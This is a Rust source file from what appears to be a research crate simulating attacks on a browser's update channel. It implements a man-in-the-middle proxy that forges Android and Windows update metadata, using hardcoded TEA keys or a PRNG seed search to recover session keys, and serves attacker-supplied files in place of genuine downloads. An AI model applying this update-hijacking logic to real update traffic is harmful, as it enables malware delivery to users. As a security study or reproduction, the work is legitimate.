use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use super::{md5_digest, ArtifactSpec, ChannelError, CryptoMode, UpdateChannel, UpdateMetadata, UpdateRequest, Variant};
use crate::attacks::{prng_attack, PrngAttackResult};
use crate::victim_prng::SessionKey;
use crate::wup::{encrypt_response, tea_cbc_encrypt, EncryptedSession, HardcodedKeys};

/// What the attacker does to update traffic. The default passes
/// everything through untouched.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ForgeScript {
    /// Replace the update metadata.
    #[serde(default)]
    pub metadata: Option<MetadataForgery>,
    /// Flip one byte of every download passed through.
    #[serde(default)]
    pub corrupt_download: bool,
    /// Serve these files instead of the real ones.
    #[serde(default)]
    pub replace_downloads: BTreeMap<String, ArtifactSpec>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct MetadataForgery {
    pub url: String,
    /// File served at `url`. Without one the real file at `url` is used.
    #[serde(default)]
    pub artifact: Option<ArtifactSpec>,
    #[serde(default)]
    pub version: Option<String>,
    /// Windows only.
    #[serde(default)]
    pub save_as: Option<String>,
    /// Android only: which response cipher to forge. Defaults to v63.
    #[serde(default)]
    pub crypto: Option<CryptoMode>,
    /// Android v65 only: where the session key comes from.
    #[serde(default)]
    pub key: Option<KeySource>,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "source", rename_all = "snake_case", deny_unknown_fields)]
pub enum KeySource {
    /// A key learned elsewhere, for instance from the bitwise oracle attack.
    Supplied { key_hex: String },
    /// Search seed times around when the request was seen.
    PrngSearch { observed_at_ms: u64, radius_ms: u64 },
}

const DEFAULT_FORGED_VERSION: &str = "99.0.0.0";

/// Sits between a client and `upstream`, applying a [`ForgeScript`].
pub struct MitmProxy<C> {
    upstream: C,
    script: ForgeScript,
    modulus_len: usize,
    served: BTreeMap<String, Vec<u8>>,
    recovered: Option<PrngAttackResult>,
    log: Vec<String>,
}

impl<C: UpdateChannel> MitmProxy<C> {
    /// `modulus_len` is the byte length of the server's public modulus,
    /// needed to parse intercepted sessions.
    pub fn new(upstream: C, script: ForgeScript, modulus_len: usize) -> Self {
        let mut served: BTreeMap<String, Vec<u8>> = script.replace_downloads.iter().map(|(u, a)| (u.clone(), a.build())).collect();
        if let Some(MetadataForgery {
            url,
            artifact: Some(a),
            ..
        }) = &script.metadata
        {
            served.insert(url.clone(), a.build());
        }
        MitmProxy {
            upstream,
            script,
            modulus_len,
            served,
            recovered: None,
            log: Vec::new(),
        }
    }

    pub fn log(&self) -> &[String] {
        &self.log
    }

    /// Result of the seed search, if the script ran one.
    pub fn recovered_key(&self) -> Option<&PrngAttackResult> {
        self.recovered.as_ref()
    }

    pub fn into_upstream(self) -> C {
        self.upstream
    }

    fn forged_md5(&mut self, url: &str) -> Result<[u8; 16], ChannelError> {
        if let Some(bytes) = self.served.get(url) {
            return Ok(md5_digest(bytes));
        }
        let real = self.upstream.send(&UpdateRequest::Download(url.to_string()))?;
        Ok(md5_digest(&real))
    }

    fn session_key(&mut self, forgery: &MetadataForgery, request: &[u8]) -> Result<SessionKey, ChannelError> {
        match &forgery.key {
            None => Err(ChannelError::Script("forging a v65 response needs the session key".into())),
            Some(KeySource::Supplied { key_hex }) => {
                let bytes: [u8; 16] = hex::decode(key_hex)
                    .ok()
                    .and_then(|b| b.try_into().ok())
                    .ok_or_else(|| ChannelError::Script(format!("bad key {key_hex:?}")))?;
                Ok(SessionKey::external(bytes))
            }
            Some(KeySource::PrngSearch { observed_at_ms, radius_ms }) => {
                let sess = EncryptedSession::from_wire(request, self.modulus_len)
                    .map_err(|e| ChannelError::Script(format!("cannot parse intercepted session: {e}")))?;
                let hit = prng_attack(&sess, *observed_at_ms, *radius_ms).map_err(|e| ChannelError::Script(e.to_string()))?;
                self.log.push(format!("seed search: {hit}"));
                let key = hit.key.clone();
                self.recovered = Some(hit);
                Ok(key)
            }
        }
    }

    fn forge_android(&mut self, forgery: &MetadataForgery, request: &[u8]) -> Result<Vec<u8>, ChannelError> {
        let meta = UpdateMetadata {
            variant: Variant::AndroidWup,
            url: forgery.url.clone(),
            md5: self.forged_md5(&forgery.url)?,
            save_as: None,
            version: forgery.version.clone().unwrap_or_else(|| DEFAULT_FORGED_VERSION.into()),
        };
        let msg = meta.to_wup();
        let reply = match forgery.crypto.unwrap_or(CryptoMode::V63) {
            CryptoMode::V63 => tea_cbc_encrypt(&HardcodedKeys::TEA_RESPONSE_KEY, &msg.encode().expect("small message")),
            CryptoMode::V65 => {
                let key = self.session_key(forgery, request)?;
                encrypt_response(&key, &msg).expect("small message")
            }
        };
        self.log.push(format!("forged android metadata -> {}", forgery.url));
        Ok(reply)
    }

    fn forge_windows(&mut self, forgery: &MetadataForgery, request: &[u8]) -> Result<Vec<u8>, ChannelError> {
        // start from the genuine answer when it is readable
        let genuine = self
            .upstream
            .send(&UpdateRequest::WindowsQuery(request.to_vec()))
            .ok()
            .and_then(|b| serde_json::from_slice::<serde_json::Value>(&b).ok())
            .and_then(|v| UpdateMetadata::from_json(&v).ok().flatten());
        let default_name = forgery.url.rsplit('/').next().unwrap_or("update.exe").to_string();
        let meta = UpdateMetadata {
            variant: Variant::WindowsJson,
            url: forgery.url.clone(),
            md5: self.forged_md5(&forgery.url)?,
            save_as: Some(forgery.save_as.clone().unwrap_or(default_name)),
            version: forgery
                .version
                .clone()
                .or_else(|| genuine.map(|g| g.version))
                .unwrap_or_else(|| DEFAULT_FORGED_VERSION.into()),
        };
        self.log.push(format!("forged windows metadata -> {} as {:?}", meta.url, meta.save_as.as_deref().unwrap_or_default()));
        Ok(serde_json::to_vec(&meta.to_json()).expect("json"))
    }
}

impl<C: UpdateChannel> UpdateChannel for MitmProxy<C> {
    fn send(&mut self, req: &UpdateRequest) -> Result<Vec<u8>, ChannelError> {
        let forgery = self.script.metadata.clone();
        match (req, forgery) {
            (UpdateRequest::AndroidQuery(body), Some(f)) => self.forge_android(&f, body),
            (UpdateRequest::WindowsQuery(body), Some(f)) => self.forge_windows(&f, body),
            (UpdateRequest::Download(url), _) if self.served.contains_key(url) => {
                self.log.push(format!("served attacker file for {url}"));
                Ok(self.served[url].clone())
            }
            (UpdateRequest::Download(_), _) if self.script.corrupt_download => {
                let mut bytes = self.upstream.send(req)?;
                if let Some(last) = bytes.last_mut() {
                    *last ^= 0x01;
                }
                self.log.push("corrupted download".into());
                Ok(bytes)
            }
            _ => self.upstream.send(req),
        }
    }
}
